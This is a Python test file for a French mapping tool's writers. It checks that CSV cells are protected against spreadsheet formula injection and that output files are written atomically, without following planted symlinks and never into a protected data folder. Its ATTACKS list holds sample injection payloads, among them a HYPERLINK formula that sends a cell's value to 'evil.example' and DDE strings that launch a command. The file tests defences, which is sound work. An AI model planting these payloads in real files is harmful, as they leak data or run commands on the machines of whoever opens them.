"""Writers: CSV cells safe in spreadsheets, and output files written safely (issue 10, items 11-12)."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely

from essmap.errors import InvalidInputError
from essmap.sources import actors_from_file, csv_text, output_file, table_to_file, write_output
from essmap.sources.common import FORMULA_TRIGGERS

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted once: one more quote, so that reading back gives it unchanged
]


def read_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.array(ATTACKS, dtype="string"),
            "note": ATTACKS,  # object column
            "lon": [-1.47] * len(ATTACKS),
            "mixed": ["", -2.5, None, "-x", 3, "ok", "=A1"],
        }
    )
    rows = read_cells(csv_text(frame))
    assert rows[0] == ["name", "note", "lon", "mixed"]
    for attack, row in zip(ATTACKS, rows[1:], strict=True):
        assert row[0] == "'" + attack
        assert row[1] == "'" + attack
        assert row[2] == "-1.47"  # a number is written as a number
        assert not row[0].startswith(FORMULA_TRIGGERS)
    assert [row[3] for row in rows[1:]] == ["", "-2.5", "", "'-x", "3", "ok", "'=A1"]
    harmless = pd.DataFrame({"name": ["AMAP du Port", "l'épicerie", "2+3", "a=b"]})
    assert [row[0] for row in read_cells(csv_text(harmless))[1:]] == [
        "AMAP du Port",
        "l'épicerie",
        "2+3",
        "a=b",
    ]


def test_an_exported_csv_imports_back_unchanged(tmp_path: Path) -> None:
    names = [a.lstrip("\t\r") for a in ATTACKS]  # names hold no tab or CR, and are stripped on import
    actors = gpd.GeoDataFrame(
        {"id": [f"a{i}" for i in range(len(names))], "name": names, "category": ["market"] * len(names)},
        geometry=[shapely.Point(-1.47, 43.49)] * len(names),
        crs=4326,
    )
    out = tmp_path / "export.csv"
    table_to_file(actors, out, fmt="csv", layer="actors", points=True)
    cells = read_cells(out.read_text(encoding="utf-8"))
    assert all(not cell.startswith(FORMULA_TRIGGERS) for row in cells for cell in row if cell != "-1.47")
    back = actors_from_file(out).table
    assert back["name"].tolist() == names
    assert back.geometry.x.tolist() == pytest.approx([-1.47] * len(names))


def test_output_is_written_through_a_fresh_private_folder_never_a_planted_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("précieux", encoding="utf-8")
    out = tmp_path / "actors.csv"
    # links planted at the temporary names used before (predictable): never followed
    for name in (".actors.csv.tmp.csv", ".actors.csv.tmp", "actors.csv.tmp"):
        (tmp_path / name).symlink_to(victim)
    write_output(out, "a,b\n1,2\n")
    assert victim.read_text(encoding="utf-8") == "précieux"
    assert out.read_text(encoding="utf-8") == "a,b\n1,2\n"
    assert not out.is_symlink()
    leftovers = {p.name for p in tmp_path.iterdir()} - {"victim.txt", "actors.csv"}
    assert leftovers == {".actors.csv.tmp.csv", ".actors.csv.tmp", "actors.csv.tmp"}  # only the planted links


def test_a_failed_write_leaves_the_old_file_and_no_temporary_folder(tmp_path: Path) -> None:
    out = tmp_path / "carte.html"
    out.write_text("ancienne", encoding="utf-8")

    def fail_midway() -> None:
        with output_file(out) as tmp:
            tmp.write_text("à moitié", encoding="utf-8")
            raise RuntimeError("rendering failed")

    with pytest.raises(RuntimeError):
        fail_midway()
    assert out.read_text(encoding="utf-8") == "ancienne"
    assert [p.name for p in tmp_path.iterdir()] == ["carte.html"]


@pytest.mark.parametrize("fmt", ["csv", "geojson", "gpkg"])
def test_table_formats_are_written_in_place(tmp_path: Path, fmt: str) -> None:
    table = gpd.GeoDataFrame({"name": ["A"]}, geometry=[shapely.Point(-1.47, 43.49)], crs=4326)
    out = tmp_path / "sub" / f"t.{fmt}"
    table_to_file(table, out, fmt=fmt, layer="actors", points=True)
    assert out.is_file()
    assert [p.name for p in out.parent.iterdir()] == [f"t.{fmt}"]


def test_outputs_inside_the_protected_folder_are_refused(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    store = data / "essmap.gpkg"
    store.write_bytes(b"store")
    link = tmp_path / "lien.gpkg"
    link.symlink_to(store)
    data_link = tmp_path / "data-lien"
    data_link.symlink_to(data)
    for target in (
        store,
        data / "carte.html",
        data / "new" / "x.csv",
        link,
        data_link / "x.csv",
        tmp_path / "data/../data/y",
    ):
        with pytest.raises(InvalidInputError, match="dossier des données"):
            write_output(target, "x", protected_dir=data)
    assert store.read_bytes() == b"store"
    assert sorted(p.name for p in data.iterdir()) == ["essmap.gpkg"]
    write_output(tmp_path / "ailleurs.html", "x", protected_dir=data)


@pytest.mark.parametrize("target", ["", ".", "{tmp}", os.devnull])
def test_folders_empty_paths_and_devices_are_refused(tmp_path: Path, target: str) -> None:
    with pytest.raises(InvalidInputError) as err:
        write_output(Path(target.format(tmp=tmp_path)), "x")
    assert err.value.problems[0].field == "--out"
    assert Path(os.devnull).exists()


def test_csv_for_a_french_spreadsheet_uses_semicolons_decimal_commas_and_a_bom() -> None:
    frame = pd.DataFrame({"Quartier": ["Maubec; Citadelle", ATTACKS[0]], "Part": [0.5, 12.25]})
    text = csv_text(frame, spreadsheet_fr=True)
    assert text.startswith("\ufeffQuartier;Part\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows[1] == ["Maubec; Citadelle", "0,5"]  # the semicolon in a name is quoted, not a separator
    assert rows[2] == ["'" + ATTACKS[0], "12,25"]  # still formula-safe
    assert not csv_text(frame, header=False, spreadsheet_fr=True).startswith("\ufeff")
